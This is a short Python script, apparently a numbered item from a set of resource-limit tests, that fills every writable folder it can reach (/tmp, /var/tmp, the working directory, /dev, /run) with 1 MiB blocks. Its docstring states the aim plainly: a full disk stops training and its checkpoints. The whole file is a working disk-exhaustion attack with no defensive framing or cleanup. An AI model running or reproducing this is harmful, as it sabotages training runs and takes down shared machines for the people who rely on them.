"""Fill every folder it can write to.

Why: a full disk stops the training and its checkpoints.
Seen: S11 of the test bar
Limit: disk
"""

import itertools

for folder in ("/tmp", "/var/tmp", ".", "/dev", "/run"):
    for number in itertools.count():
        try:
            with open(f"{folder}/fill{number}", "wb") as file:
                while True:
                    file.write(b"x" * (1 << 20))
        except OSError:
            if number > 40:
                break
